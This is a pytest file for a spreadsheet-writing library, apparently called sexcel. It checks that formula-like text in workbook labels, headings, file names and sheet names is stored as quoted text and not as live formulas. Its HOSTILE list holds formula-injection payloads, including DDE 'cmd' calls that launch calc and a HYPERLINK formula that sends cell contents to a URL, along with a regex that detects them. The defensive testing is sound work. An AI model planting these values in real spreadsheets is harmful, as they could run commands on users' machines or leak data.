"""Words from a workbook that look like a formula stay words wherever they are written."""

import re
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from lxml import etree
from msgspec.structs import replace

import sexcel
from sexcel.model.book import Book, BookTable, Entry, Role, Row
from sexcel.model.publication import Publication
from sexcel.model.tables import Kind
from tests.graft.published import build_published
from tests.writers.ooxml import MAIN, WrittenPackage, faults
from tests.writers.regenerating import published, write_workbook

HOSTILE = (
    '=HYPERLINK("http://example.org/?"&A1,"click")',
    "=cmd|'/c calc'!A1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=",
)
PAYLOAD = re.compile(r"HYPERLINK|cmd|SUM\(1,2\)|^-2\+3|^1\+1$", re.IGNORECASE)


def hostile(book: Book, text: str) -> Book:
    """Return the book with that text in front of every word that somebody typed."""
    return replace(
        book,
        path=f"{text} budget.xlsx",
        tables={
            name: replace(
                table,
                columns=tuple(
                    replace(column, heading=f"{text} {column.heading}") for column in table.columns
                ),
                rows=tuple(_row(table, row, text) for row in table.rows),
            )
            for name, table in book.tables.items()
        },
    )


def _row(table: BookTable, row: Row, text: str) -> Row:
    if table.table.line(row.key) is not None and table.table.name == "rates":
        return row
    entries = {
        column.name: _entry(row, row.entries[column.name], text)
        if column.column.kind in (Kind.LABEL, Kind.TEXT) and column.name in row.entries
        else row.entries[column.name]
        for column in table.columns
        if column.name in row.entries
    }
    label = f"{text}{row.label}" if row.role is Role.LINE else row.label
    group = f"{text}{row.group}" if row.group else ""
    return replace(row, label=label, group=group, entries=entries)


def _entry(row: Row, entry: Entry, text: str) -> Entry:
    written = isinstance(entry.value, str) and row.role in (Role.LINE, Role.HEADING)
    return replace(entry, value=f"{text}{entry.value}") if written else entry


def formulas(package: WrittenPackage) -> Iterator[tuple[str, str, str]]:
    for name, part in package.sheets():
        for cell in package.xml(part).iter(f"{MAIN}c"):
            text = cell.findtext(f"{MAIN}f")
            if text is not None:
                yield name, cell.get("r", ""), text


def words(package: WrittenPackage) -> Iterator[tuple[str, str, bool]]:
    """Yield each cell of words: where, what, and whether it is marked as words."""
    texts = [
        "".join(part.text or "" for part in si.iter(f"{MAIN}t"))
        for si in package.xml("xl/sharedStrings.xml")
    ]
    looks = package.xml("xl/styles.xml").find(f"{MAIN}cellXfs")
    assert looks is not None
    for name, part in package.sheets():
        for cell in package.xml(part).iter(f"{MAIN}c"):
            if cell.get("t") == "s":
                look = looks[int(cell.get("s", 0))]
                text = texts[int(cell.findtext(f"{MAIN}v") or 0)]
                yield f"{name}!{cell.get('r')}", text, look.get("quotePrefix") == "1"


@pytest.mark.slow
@pytest.mark.parametrize("text", HOSTILE)
def test_no_words_of_the_budget_become_a_formula(text: str, tmp_path: Path) -> None:
    target = tmp_path / "hostile.xlsx"
    write_workbook(hostile(published(), text), (), target)
    package = WrittenPackage(target)
    all_formulas = list(formulas(package))
    assert not [formula for formula in all_formulas if PAYLOAD.search(formula[2])]
    assert len(all_formulas) > 1400
    # What XML or Excel cannot hold as such is written by its number.
    start = text.replace("\r", "_x000D_")[:1]
    begins = [(cell, marked) for cell, word, marked in words(package) if word.startswith(start)]
    assert len(begins) > 250
    if start != "_":
        assert not [cell for cell, marked in begins if not marked]
    assert faults(target) == []


def test_the_header_the_links_and_the_names_hold_no_code(tmp_path: Path) -> None:
    """Put code in the classification: it is in the header of every page."""
    target = tmp_path / "hostile.xlsx"
    write_workbook(published(), (), target, publication=Publication("&F&[Path]White"))
    with zipfile.ZipFile(target) as package:
        page = package.read("xl/worksheets/sheet3.xml").decode()
    assert "&amp;&amp;F&amp;&amp;[Path]White" in page


@pytest.mark.parametrize("text", HOSTILE[:5])
def test_no_words_of_findings_become_a_formula(text: str, tmp_path: Path) -> None:
    """Annotate a sheet and a line of that name, with an error on it."""

    def fill(workbook: object) -> None:
        name = re.sub(r"[\[\]:*?/\\'\"]", "", text)[:25]
        workbook.add_worksheet(name).write_string(0, 0, text)  # type: ignore[attr-defined]

    source = build_published(tmp_path / "source.xlsx", fill)
    target = tmp_path / "checked.xlsx"
    sexcel.annotate(source, target)
    with zipfile.ZipFile(target) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/sheet"):
                sheet = etree.fromstring(package.read(name))
                assert not [formula.text for formula in sheet.iter(f"{MAIN}f")]
